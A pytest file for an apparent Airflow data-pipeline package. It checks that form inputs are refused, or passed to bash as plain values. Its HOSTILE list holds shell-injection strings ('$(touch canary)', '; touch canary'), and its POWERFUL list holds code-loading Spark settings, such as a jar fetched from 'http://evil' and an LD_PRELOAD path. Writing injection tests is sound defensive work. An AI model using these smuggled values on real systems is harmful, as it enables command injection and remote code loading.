"""No value of a form reaches a shell as anything but a value, and the form takes none that could be meant to."""

from __future__ import annotations

import datetime as dt
import os
import re
import subprocess
from dataclasses import dataclass, field

import pytest
from airflow.sdk.exceptions import AirflowFailException, ParamValidationError

from streamflow_dags import fields, jobs, spark, window
from streamflow_dags.settings import Settings
from streamflow_dags.window import Window

CANARY = "canary"
HOSTILE = [
    "$(touch canary)",
    "`touch canary`",
    "; touch canary",
    "' ; touch canary ; '",
    '" ; touch canary ; "',
    "a\ntouch canary",
    "| touch canary",
    "&& touch canary",
    "{{ ''.__class__ }}",
    "{% raw %}",
    "${IFS}",
    "*",
    "--help",
    "\\",
    "äöü€𝄞",
    "",
]


@dataclass(frozen=True)
class Form:
    params: set[str]


@dataclass(frozen=True)
class Run:
    conf: dict = field(default_factory=dict)


FIELDS = ["date", "topics", "lateness", "spark_master", "spark_settings"]
# What would be taken by Spark, but is the installation's to say.
POWERFUL = [
    "spark.driver.extraJavaOptions=-XX:OnOutOfMemoryError=touch",
    "spark.jars=http://evil/x.jar",
    "spark.plugins=evil.Plugin",
    "spark.driver.extraClassPath=/tmp/x",
    "spark.sql.extensions=evil.Extensions",
    "spark.hadoop.fs.defaultFS=hdfs://evil",
    "spark.executorEnv.LD_PRELOAD=/tmp/x.so",
    "spark.sql.warehouse.dir=/tmp",
    "spark.submit.pyFiles=/x",
    "spark.sql.shuffle.partitions=1 --class Evil",
]


def taken(field, value):
    """What a run makes of a value of the form; raises where it refuses it."""
    settings = Settings.read()
    context = {"params": {"topics": [value]}, "dag": Form({"topics"}), "dag_run": Run()}
    return {
        "date": lambda: fields.date("date", value),
        "topics": lambda: window.topics_of(context, settings),
        "lateness": lambda: fields.lateness(value),
        "spark_master": lambda: spark.chosen({"spark_master": value, "spark_settings": None}, settings)["spark_master"],
        "spark_settings": lambda: spark.chosen({"spark_master": None, "spark_settings": [value]}, settings)["spark_settings"],
    }[field]()


@pytest.mark.parametrize("value", [value for value in HOSTILE if value])
@pytest.mark.parametrize("field", FIELDS)
def test_the_run_refuses_it_in_a_sentence(field, value):
    with pytest.raises(AirflowFailException, match=rf"^Cannot use {field.removesuffix('s')}"):
        taken(field, value)


@pytest.mark.parametrize("value", ["2026-13-01", "2026-02-30", "yesterday", "2026-1-1", "20260101", "2026-W01-1"])
def test_what_is_no_date_is_refused(dagbag, value):
    with pytest.raises(ParamValidationError):
        dagbag.dags["streamflow_daily"].params.get_param("date").resolve(value)
    with pytest.raises(AirflowFailException, match=f"^Cannot use date '{value}': it is not a date such as 2026-01-31"):
        taken("date", value)


@pytest.mark.parametrize("value", POWERFUL)
def test_settings_that_load_code_or_move_files_are_refused(value):
    with pytest.raises(AirflowFailException, match=re.escape(f"Cannot use spark_settings '{value}'")):
        taken("spark_settings", value)


@pytest.mark.parametrize(
    ("field", "value", "read"),
    [
        ("date", "2026-01-31", dt.date(2026, 1, 31)),
        ("topics", " user_events\n", ("user_events",)),
        ("topics", "\n", ("user_events", "transaction_events")),
        ("lateness", "P1DT2H30M", "P1DT2H30M"),
        ("lateness", "PT0S", "PT0S"),
        ("lateness", "1h", "PT1H"),
        ("lateness", " 90 min ", "PT90M"),
        ("lateness", "1h30m", "PT1H30M"),
        ("lateness", "2 days", "P2D"),
        ("lateness", "1d 2h", "P1DT2H"),
        ("lateness", "pt2h", "PT2H"),
        ("lateness", "0", "PT0S"),
        ("lateness", None, "PT1H"),
        ("lateness", "", "PT1H"),
        ("spark_master", "local[*]", "local[*]"),
        ("spark_master", " local[2]", "local[2]"),
        ("spark_master", "spark://one:7077,two:7077", "spark://one:7077,two:7077"),
        ("spark_master", "k8s://https://10.0.0.1:6443", "k8s://https://10.0.0.1:6443"),
        ("spark_master", "", None),
        ("spark_settings", " spark.sql.shuffle.partitions=64 ", ["spark.sql.shuffle.partitions=64"]),
        ("spark_settings", "spark.driver.memory=4g", ["spark.driver.memory=4g"]),
        ("spark_settings", "", None),
    ],
)
def test_what_people_type_is_taken(monkeypatch, field, value, read):
    monkeypatch.setenv("STREAMFLOW_SPARK_MASTERS", "spark://one:7077,two:7077 k8s://https://10.0.0.1:6443")

    assert taken(field, value) == read


@pytest.mark.parametrize(
    ("field", "value", "said"),
    [
        ("lateness", "1", "Cannot use lateness '1': it is not a duration. Write it as 1h, 30m, 1d 2h or"),
        ("spark_master", "spark://elsewhere:7077", "this installation knows local[*] and local[2] for two cores"),
        ("spark_settings", "spark.sql.warehouse.dir=x", "These are: spark.cores.max, "),
        ("spark_settings", "spark.sql.shuffle.partition=64", "Did you mean spark.sql.shuffle.partitions?"),
        ("spark_settings", "spark.sql.shuffle.partitions", "it is not name=value"),
        ("spark_settings", "spark.driver.memory=4 g", "its value"),
    ],
)
def test_a_refusal_says_what_fits(field, value, said):
    with pytest.raises(AirflowFailException, match=re.escape(said)):
        taken(field, value)


@pytest.mark.parametrize("given", [-1, 3.5, True, "7", 3661, float("nan"), float("inf")])
def test_a_number_that_does_not_fit_is_refused_with_those_that_do(given):
    with pytest.raises(
        AirflowFailException, match=f"^Cannot use window .*{given}.*: it does not fit. Whole numbers from 0 to 3,660"
    ):
        fields.whole("window", given, 0, 3660)


@pytest.mark.parametrize("value", HOSTILE)
def test_the_shell_hands_it_on_as_it_is(installation, tmp_path, value):
    settings = Settings.read()
    window = Window(dt.date(2026, 1, 1), dt.date(2026, 1, 1), (value,))
    params = {"spark_master": value or None, "spark_settings": [value], "mode": "full"}
    for job in ("land", "due", "ledger", "spark-submit"):
        installation.answers(job, "echo '{}'")

    (land,) = jobs.landings(window, value, settings)
    (compute,) = jobs.computations([{"from": "2026-01-01", "to": "2026-01-01"}], [value], params, settings)
    labelled = {**compute, "JOB_LABEL": value}
    bash(jobs.LAND, land, tmp_path)
    bash(jobs.DUE, jobs.question(window, value, settings), tmp_path)
    bash(jobs.ETL, labelled, tmp_path)
    bash(jobs.LEDGER, labelled, tmp_path)

    (call,) = installation.calls("land")
    assert call[call.index("--topic") + 1] == value
    assert call[call.index("--lateness") + 1] == value
    (call,) = installation.calls("due")
    assert call[call.index("--topics") + 1] == value
    assert call[-2:] == (["--waive", value] if value else ["--window", "0"])
    (call,) = installation.calls("ledger")
    assert call[-2:] == ["--label", value]
    (call,) = installation.calls("spark-submit")
    assert call[call.index("--label") :] == ["--label", value, "--due"]
    assert call[call.index("--master") + 1] == (value or "local[*]")
    assert call[call.index("--topics") + 1] == value
    given = [call[index + 1] for index, word in enumerate(call[: call.index("--class")]) if word == "--conf"]
    assert given == [line for line in value.split("\n") if line]
    assert not list(tmp_path.rglob(CANARY))


def bash(command, env, folder):
    done = subprocess.run(
        ["bash", "-c", command], env={**os.environ, **env}, cwd=folder, capture_output=True, text=True, check=False
    )
    assert (done.returncode, done.stdout) == (0, "{}\n"), done.stderr


def test_the_commands_are_constant():
    for command in (jobs.LAND, jobs.DUE, jobs.ETL, jobs.LEDGER, jobs.PRODUCE, jobs.VERIFY):
        assert "{{" not in command
        assert "{%" not in command
        assert "eval" not in command
